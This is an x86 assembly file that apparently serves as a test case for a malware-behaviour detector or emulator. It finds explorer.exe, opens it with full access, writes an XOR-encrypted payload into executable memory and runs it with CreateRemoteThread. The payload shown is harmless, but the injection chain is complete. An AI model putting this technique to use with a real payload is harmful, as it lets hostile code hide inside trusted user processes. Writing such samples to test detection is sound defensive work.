; SPDX-License-Identifier: Apache-2.0
; Injection into a program that runs already and is nobody's child: explorer.exe is looked for in a snapshot,
; opened, written into, and given a thread. It is watched from the write on.
%import kernel32.dll CreateToolhelp32Snapshot, Process32First, Process32Next, lstrcmpiA, OpenProcess
%import kernel32.dll VirtualAllocEx, WriteProcessMemory, CreateRemoteThread, WaitForSingleObject, ExitProcess
%entry start
%payload payload payload_end
%encrypt payload payload_end 0xa7

%section .text rx
start:
  push 0
  push 2                       ; TH32CS_SNAPPROCESS
  call dword ptr [CreateToolhelp32Snapshot]
  mov ebx, eax
  push entry
  push ebx
  call dword ptr [Process32First]
next:
  test eax, eax
  jz failed
  push name
  mov eax, entry
  add eax, 36                  ; szExeFile
  push eax
  call dword ptr [lstrcmpiA]
  test eax, eax
  jz found
  push entry
  push ebx
  call dword ptr [Process32Next]
  jmp next
found:
  mov eax, entry
  push dword ptr [eax + 8]     ; th32ProcessID
  push 0
  push 0x1fffff                ; PROCESS_ALL_ACCESS
  call dword ptr [OpenProcess]
  test eax, eax
  jz failed
  mov ebp, eax
  push 0x40                    ; PAGE_EXECUTE_READWRITE
  push 0x3000
  push 0x1000
  push 0
  push ebp
  call dword ptr [VirtualAllocEx]
  test eax, eax
  jz failed
  mov ebx, eax
  mov edi, eax
  mov esi, payload
write:
  mov eax, dword ptr [esi]
  xor eax, 0xa7a7a7a7
  mov dword ptr [piece], eax
  push 0
  push 4
  push piece
  push edi
  push ebp
  call dword ptr [WriteProcessMemory]
  test eax, eax
  jz failed
  add esi, 4
  add edi, 4
  cmp esi, payload_end
  jb write
  push 0
  push 0
  push 7
  push ebx
  push 0
  push 0
  push ebp
  call dword ptr [CreateRemoteThread]
  test eax, eax
  jz failed
  push -1                      ; INFINITE
  push eax
  call dword ptr [WaitForSingleObject]
  push 0
  call dword ptr [ExitProcess]
failed:
  push 1
  call dword ptr [ExitProcess]

%section .data rw
entry:                         ; PROCESSENTRY32
  .long 296
  .zero 292
name:
  .asciz "explorer.exe"
  .p2align 2, 0
piece:
  .long 0
payload:
  mov eax, dword ptr [esp + 4]
  ret 4
  %marker
  .p2align 2, 0
payload_end:
